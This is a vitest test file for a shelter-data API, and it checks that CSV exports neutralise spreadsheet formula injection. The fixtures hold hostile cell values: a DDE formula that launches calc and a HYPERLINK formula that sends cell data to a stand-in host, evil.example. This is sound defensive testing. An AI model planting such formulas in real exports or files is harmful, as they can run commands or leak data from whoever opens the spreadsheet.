// Misuse: formulas smuggled into a CSV export through an import (issue 15 item 6). The import keeps what was
// sent; every export neutralises text cells a spreadsheet would run, keeps numbers and dates as they are, and
// says in a header how it escaped.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_ESCAPING_NOTE, writeCsv, type App, type CypherExecutor } from '@ketenkaart/api';
import { seedReferenceData } from '@ketenkaart/seed';
import { signIn, type SignedIn } from '../support/accounts.js';
import { openTestStore, testApp } from '../support/store.js';

const CALC = `=cmd|' /C calc'!A0`;
const hostile = {
  'HVO-INJ-1': { note: CALC },
  'HVO-INJ-2': { note: `+HYPERLINK("http://evil.example/?"&A1,"click")` },
  'HVO-INJ-3': { note: `-2+3+cmd|' /C calc'!A0` },
  'HVO-INJ-4': { note: `\t=1+1` },
  'HVO-INJ-5': { note: `plain words, = inside is fine` },
  'HVO-INJ-6': { note: `@SUM(1+1)` },
};
const csvField = (text: string) => `"${text.replace(/"/g, '""')}"`;
const REFUSALS = [
  'facility_id,case_ref,household_id,target_group,refused_on,reason,alternative,alternative_agency_id,note',
  ...Object.entries(hostile).map(
    ([caseRef, { note }]) => `ams-roggeveen-crisis,${caseRef},,FAMILIES,2026-10-03,NO_CAPACITY,NONE,,${csvField(note)}`,
  ),
].join('\n');

let executor: CypherExecutor;
let app: App;
let hvo: SignedIn;

beforeAll(async () => {
  executor = await openTestStore();
  await seedReferenceData(executor);
  app = testApp(executor);
  hvo = await signIn(app, executor, 'SHELTER_STAFF', { agencyId: 'ams-hvo-querido' });
  const imported = await app.fetch(
    new Request('http://ketenkaart.test/shelter/import?kind=refusals', {
      method: 'POST',
      headers: { ...hvo.headers, 'content-type': 'text/csv' },
      body: REFUSALS,
    }),
  );
  const report = (await imported.text())
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))
    .find((line) => line.type === 'report');
  expect(report.problems).toEqual([]);
  expect(report.written).toMatchObject({ created: 6 });
});
afterAll(async () => executor.close());

const exportOf = (format: 'csv' | 'json') =>
  app.fetch(new Request(`http://ketenkaart.test/shelter/export?kind=refusals&format=${format}`, { headers: hvo.headers }));

describe('CSV formula injection', () => {
  it('keeps what was imported as it was sent', async () => {
    const { records } = (await (await exportOf('json')).json()) as { records: { caseRef: string; note: string | null }[] };
    for (const [caseRef, { note }] of Object.entries(hostile)) expect(records.find((r) => r.caseRef === caseRef)?.note).toBe(note);
  });

  it('neutralises every text cell a spreadsheet would run in the shelter export, and says so', async () => {
    const response = await exportOf('csv');
    expect(response.headers.get('csv-formula-escaping')).toBe(CSV_ESCAPING_NOTE);
    const rows = parse<Record<string, string>>((await response.text()).replace(/^\uFEFF/, ''), { columns: true });
    const noteOf = (caseRef: string) => rows.find((r) => r.case_ref === caseRef)?.note;
    expect(noteOf('HVO-INJ-1')).toBe(`'${CALC}`);
    expect(noteOf('HVO-INJ-2')).toBe(`'${hostile['HVO-INJ-2'].note}`);
    expect(noteOf('HVO-INJ-3')).toBe(`'${hostile['HVO-INJ-3'].note}`);
    expect(noteOf('HVO-INJ-4')).toBe(`'\t=1+1`);
    expect(noteOf('HVO-INJ-5')).toBe('plain words, = inside is fine');
    expect(noteOf('HVO-INJ-6')).toBe(`'@SUM(1+1)`);
    // Dates stay dates.
    expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r.refused_on!))).toBe(true);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('says how it escaped on the comparison export too', async () => {
    const policy = await signIn(app, executor, 'POLICY_MAKER');
    const response = await app.fetch(
      new Request('http://ketenkaart.test/exports/comparison.csv?cities=amsterdam,utrecht&from=2025-07-01&to=2026-06-30', {
        headers: policy.headers,
      }),
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('csv-formula-escaping')).toBe(CSV_ESCAPING_NOTE);
  });

  it('keeps numbers numeric, negative ones and numbers written as text included', () => {
    const csv = writeCsv(['a', 'b', 'c', 'd', 'e'], [[-12, '-3.5', '2026-10-03', '-1+1', '@x']]);
    expect(csv.split('\n')[1]).toBe(`-12,-3.5,2026-10-03,'-1+1,'@x`);
  });
});
